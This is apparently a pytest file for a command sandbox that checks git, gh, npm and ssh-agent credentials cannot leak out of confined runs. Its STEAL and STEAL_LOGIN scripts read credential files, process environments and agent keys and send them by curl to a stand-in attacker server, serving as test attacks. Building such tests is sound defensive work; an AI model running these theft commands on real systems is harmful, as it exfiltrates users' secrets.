"""While a key is open, nothing but its program gets it: what a project, an earlier run or a run
beside it may try."""

import base64
import os
import shutil
import subprocess
import tomllib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from _pytest.mark import ParameterSet

from execpolicy.support.record import Value
from tests import confined
from tests.sandbox.keys import servers
from tests.sandbox.keys.conftest import PASSWORD
from tests.sandbox.keys.home import Home, allow
from tests.sandbox.keys.servers import Server, SshServer
from tests.sandbox.keys.test_git_ssh import needs_sshd
from tests.sandbox.keys.test_git_ssh import ssh as ssh
from tests.sandbox.keys.test_stand_ins import install
from tests.sandbox.keys.test_token_files import GH, NPM_ALLOWS, needs_npm
from tests.sandbox.test_run import ROOT, RUN, command
from tests.waiting import HANG_SECONDS, Process, until

STEAL = """#!/bin/sh
# What code does that gets to run beside a key: all that it can see goes into the project.
exec 2>/dev/null
cat ~/.git-credentials ~/.npmrc ~/.config/gh/hosts.yml >> PROJECT/stolen
env >> PROJECT/stolen
for pid in /proc/[0-9]*; do cat $pid/environ $pid/cmdline >> PROJECT/stolen; done
timeout 1 cat - >> PROJECT/stolen
/usr/bin/curl -s -m 3 -d @PROJECT/stolen EVIL/
"""


class Attack(Value):
    """One of `attacks.toml`, which says what its fields are."""

    text: str
    files: dict[str, str] = {}  # noqa: RUF012
    config: str = ""
    before: str = ""
    path: str = ""
    real: bool = True
    environment: dict[str, str] = {}  # noqa: RUF012


SCRIPT = {"steal": STEAL}
STEAL_LOGIN = """ssh-add -L >> PROJECT/stolen
cat ~/user-key >> PROJECT/stolen
timeout 3 ssh -F ~/ssh-settings -o BatchMode=yes -p EVILPORT root@127.0.0.1 true
timeout 3 ssh -F ~/ssh-settings -o BatchMode=yes -p GOODPORT root@127.0.0.1 \
  'echo canary-7f"3a9c" > PROJECT/in'
"""
LOGS_IN = "".join(
    f'prefix_rule(["{name}"], "allow", effects = ["network", "remote", "read", "write"])\n'
    for name in ("ssh", "scp", "rsync", "sftp")
)
AGAIN = "for i in $(seq 400); do"
_ROWS = [tomllib.loads(path.read_text()) for path in Path(__file__).parent.glob("*attacks.toml")]
BESIDE: dict[str, str] = {name: text for rows in _ROWS for name, text in rows["beside"].items()}


def attacks(program: str) -> list[ParameterSet]:
    """Those on the calls of one program, each under its name."""
    return [_row(dict(one)) for rows in _ROWS for one in rows.get(program, ())]


def _row(one: dict[str, Any]) -> ParameterSet:
    name, each_day = one.pop("name"), one.pop("each_day", False)
    return pytest.param(Attack(**one), id=name, marks=() if each_day else pytest.mark.rest)


@pytest.fixture
def evil() -> Iterator[Server]:
    """A server of the attacker, which rules let through, and which takes every login."""
    asks = servers.says(b"{}", 401, **{"WWW-Authenticate": 'Basic realm="x"'})
    with servers.serving(asks) as server:
        yield server


class Field:
    """What an attack is tried on: the home has every key, the rules let both servers through."""

    def __init__(self, home: Home, project: Path, good: Server, evil: Server) -> None:
        self.home, self.project, self.good, self.evil = home, project, good, evil
        place = f"127.0.0.1:{good.port}"
        home.git("credential.helper", "store")
        home.write(".git-credentials", f"http://user:{PASSWORD}@{place}\n")
        home.write(".config/gh/hosts.yml", f"{place}:\n    oauth_token: {PASSWORD}\n")
        home.write(".npmrc", f"registry=http://{place}/\n//{place}/:_authToken={PASSWORD}\n")
        home.program("gh", f"{GH}c=$?\ngit status >/dev/null\nexit $c\n")
        allow(project, good.port, evil.port, more=NPM_ALLOWS)
        self.names = {"STEAL": STEAL}
        self.logs: tuple[Path, ...] = ()

    def filled(self, text: str) -> str:
        """A text with the names of this field."""
        branch = ["git", "-C", str(self.project), "branch", "--show-current"]
        names = {
            **self.names,
            "AGAIN": AGAIN,
            "CANARY": PASSWORD,
            "PROJECT": str(self.project),
            "EVILHOST": f"127.0.0.1:{self.evil.port}",
            "EVIL": self.evil.url,
            "GOOD": self.good.url,
        }
        if "BRANCH" in text:
            done = subprocess.run(branch, capture_output=True, text=True, check=True)
            names["BRANCH"] = done.stdout.strip()
        for name, value in names.items():
            text = text.replace(name, value)
        return text

    def prepare(self, attack: Attack, monkeypatch: pytest.MonkeyPatch) -> None:
        """All that was there before the call."""
        for name, text in attack.files.items():
            made = self.project / name
            made.parent.mkdir(parents=True, exist_ok=True)
            if text[:3] == "-> ":
                made.symlink_to(text[3:])
                continue
            made.write_text(self.filled(text))
            made.chmod(0o755)
        with (self.project / ".git/config").open("a") as config:
            config.write(self.filled(attack.config))
        if attack.before:
            self.run(attack.before)
        for name, value in attack.environment.items():
            monkeypatch.setenv(name, self.filled(value))
        if attack.path:
            found = os.environ["PATH"]
            monkeypatch.setenv("PATH", f"{self.project / attack.path}:{found}")

    def run(self, text: str) -> str:
        """What a confined run of a text says."""
        words = command(self.project, "-c", self.filled(text))
        done = subprocess.run(words, capture_output=True, cwd=ROOT, timeout=HANG_SECONDS)
        return (done.stdout + done.stderr).decode("utf-8", "replace")

    def run_outside(self, text: str) -> str:
        """The same without execpolicy: it writes below this directory alone."""
        *walls, _ = confined.words(self.project.parent)
        words = [*walls, "--share-net", "--chdir", str(self.project), "--", "bash", "-c"]
        done = subprocess.run(
            [*words, self.filled(text)], capture_output=True, timeout=HANG_SECONDS
        )
        return (done.stdout + done.stderr).decode("utf-8", "replace")

    def lost(self, said: str) -> list[str]:
        """Where the key has got to: the project, the attacker's server, what is shown."""
        shown = [("shown", said)] if _has_key(said) else []
        shown += [
            (str(log), PASSWORD) for log in self.logs if "Accepted publickey" in log.read_text()
        ]
        asked = [(one.path, f"{one.headers} {one.body!r}") for one in self.evil.asked]
        asked += [(one.path, repr(one.body)) for one in self.good.asked]
        found = os.walk(self.project)  # which may change meanwhile
        paths = [Path(at, name) for at, _, names in found for name in names]
        files = [path for path in paths if path.is_file() and not path.is_symlink()]
        kept = [(str(path), _content(path)) for path in files]
        return [where for where, text in (*shown, *asked, *kept) if _has_key(text)]


def _content(path: Path) -> str:
    """What is in a file, and not in what a link in its place leads to by now."""
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NOFOLLOW)
    except OSError:
        return ""
    with open(fd, encoding="latin-1") as file:
        return file.read()


def _has_key(text: str) -> bool:
    return (
        PASSWORD in text
        or "PRIVATE KEY" in text
        or base64.b64encode(f"user:{PASSWORD}".encode()).decode() in text
    )


class Logins(Value):
    """Two servers of ssh that take the user's key, of which one is the attacker's, and the log of
    the agent that has it."""

    good: SshServer
    evil: SshServer
    agent: Path

    @property
    def accepted(self) -> int:
        """How often the user was logged in where that was asked for."""
        return self.good.log.read_text().count("Accepted publickey")

    @property
    def signed(self) -> int:
        """How often the agent has signed (SSH_AGENTC_SIGN_REQUEST)."""
        return self.agent.read_text().count("type 13\n")

    def on(self, field: Field) -> Field:
        """The same field, with attacks by ssh."""
        field.logs = (self.evil.log,)
        at = f"ports = [{self.evil.port}]"
        allow(
            field.project, more=f'network_rule("127.0.0.1", "ssh", "forbidden", {at})\n' + LOGS_IN
        )
        ssh = f'#!/bin/sh\nexec /usr/bin/ssh -F {field.home.path}/ssh-settings "$@"\n'
        field.home.program("ssh", ssh)
        ports = {"EVILPORT": str(self.evil.port), "GOODPORT": str(self.good.port)}
        spots = {
            "EVILSSH": f"127.0.0.1:{self.evil.port}",
            "GOODHOST": f"127.0.0.1:{self.good.port}",
        }
        login = f"-p {self.good.port} root@127.0.0.1"
        field.names = {"STEAL": STEAL + STEAL_LOGIN, "LOGIN": login, **ports, **spots}
        (field.project / "steal").write_text(field.filled("STEAL"))
        (field.project / "steal").chmod(0o755)
        return field


@pytest.fixture
def logins(
    base: Path, home: Home, ssh: SshServer, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Logins]:
    """An agent with the key, which lists it by the canary."""
    key, known = home.path / "user-key", home.path / "known"
    words = ["ssh-keygen", "-q", "-c", "-P", "", "-C", PASSWORD, "-f", str(key)]
    subprocess.run(words, check=True)
    public, log = key.with_suffix(".pub").read_text(), base / "agent.log"
    with (
        servers.sshd(base / "evil-sshd", public) as evil,
        servers.agent(home.path / "agent", log),
    ):
        host = (base / "evil-sshd/host.pub").read_text()
        known.write_text(f"{known.read_text()}[127.0.0.1]:{evil.port} {host}")
        monkeypatch.setenv("SSH_AUTH_SOCK", str(home.path / "agent"))
        subprocess.run(["ssh-add", "-q", str(key)], check=True)
        yield Logins(ssh, evil, log)


@pytest.fixture
def field(home: Home, project: Path, remote: Server, evil: Server) -> Field:
    """A project with a remote of git that wants a password."""
    return Field(home, project, remote, evil)


@pytest.fixture
def token_field(home: Home, project: Path, evil: Server) -> Iterator[Field]:
    """A project, and a server that takes the tokens of gh and of npm."""
    answer = servers.says(b'{"username": "somebody"}')
    with servers.serving(answer) as server:
        yield Field(home, project, server, evil)


@pytest.fixture
def ssh_field(home: Home, project: Path, evil: Server, logins: Logins) -> Field:
    """A project with a remote of ssh, and a user whose agent has the key."""
    return logins.on(Field(home, project, evil, evil))


@pytest.mark.parametrize("attack", attacks("git"))
def test_git_loses_no_key(field: Field, monkeypatch: pytest.MonkeyPatch, attack: Attack) -> None:
    _tried(field, attack, monkeypatch)


@pytest.mark.parametrize("attack", attacks("gh"))
def test_gh_loses_no_key(
    token_field: Field, monkeypatch: pytest.MonkeyPatch, attack: Attack
) -> None:
    _tried(token_field, attack, monkeypatch)


@needs_npm
@pytest.mark.parametrize("attack", attacks("npm"))
def test_npm_loses_no_key(
    token_field: Field, monkeypatch: pytest.MonkeyPatch, attack: Attack
) -> None:
    _tried(token_field, attack, monkeypatch)


@pytest.mark.parametrize("attack", attacks("stand_in"))
def test_stand_ins_lose_no_key(
    token_field: Field, monkeypatch: pytest.MonkeyPatch, attack: Attack
) -> None:
    install(token_field.home, token_field.project, token_field.good.port)
    _tried(token_field, attack, monkeypatch)


@needs_sshd
@pytest.mark.parametrize("attack", attacks("ssh"))
def test_an_agent_signs_for_no_other(
    ssh_field: Field, logins: Logins, monkeypatch: pytest.MonkeyPatch, attack: Attack
) -> None:
    if attack.text.startswith("rsync") and not shutil.which("rsync"):
        pytest.skip("NOT TESTED: no rsync here")
    ssh_field.prepare(attack, monkeypatch)
    assert not ssh_field.lost(ssh_field.run(attack.text))
    assert logins.signed <= logins.accepted
    if attack.real:
        assert ssh_field.lost(ssh_field.run_outside(attack.text)), "it is not an attack"


def _tried(field: Field, attack: Attack, monkeypatch: pytest.MonkeyPatch) -> None:
    field.prepare(attack, monkeypatch)
    assert not field.lost(field.run(attack.text))
    if attack.real:
        field.good.asked.clear()
        assert field.lost(field.run_outside(attack.text)), "it is not an attack"


@pytest.mark.rest
@pytest.mark.parametrize("name", BESIDE)
@pytest.mark.parametrize("text", ["git fetch", "gh pr view 4", "npm whoami"])
def test_a_run_beside_gets_no_key(
    field: Field, monkeypatch: pytest.MonkeyPatch, name: str, text: str
) -> None:
    """The server takes every key, and is slow, so that the other run has its time."""
    field.good.wants_any(0.4)
    field.prepare(Attack("", SCRIPT), monkeypatch)
    rules = str(field.project.parent / "a.rules")
    session = ["--session", str(os.getpid())]
    (field.project / "sub").mkdir()
    words = [*RUN, "--rules", rules, *session]
    script = field.filled(f"touch began; {BESIDE[name]}")
    project, sub = str(field.project), str(field.project / "sub")
    with Process([*words, "--cwd", project, "-c", script], cwd=ROOT) as beside:
        until((field.project / "began").exists)
        done = subprocess.run([*words, "--cwd", sub, "-c", text], cwd=ROOT, capture_output=True,
                              timeout=HANG_SECONDS)  # fmt: skip
        beside.kill()
    said = (done.stdout + done.stderr).decode("utf-8", "replace")
    kept = ["the run was ended", "no key of yours was opened", "bwrap: ", "cannot be prepared"]
    if name == "exchanges the directory":  # by then it may be another, where the call has no key
        kept += ["can't read", "could not read", "code ENEEDAUTH", "code E401", "not a directory"]
    if name == "replaces settings":  # `os.path.realpath` reads a link that is none any more
        kept.append(".npmrc`: invalid argument")
    assert field.good.keys or any(each in said for each in kept), said
    assert not field.lost(said)


@pytest.mark.rest
@pytest.mark.parametrize("text", ["git fetch", "gh pr view 4", "npm whoami"])
@pytest.mark.parametrize("asks", [False, True])
def test_a_redirection_takes_no_key_along(field: Field, text: str, *, asks: bool) -> None:
    """`asks`: the server wants the key first."""
    field.good.redirects(field.evil.url, asks=asks)
    said = field.run(text)
    assert not field.lost(said)
    assert not field.evil.asked, said
    field.run_outside(text)
    assert field.evil.asked or text == "npm whoami"
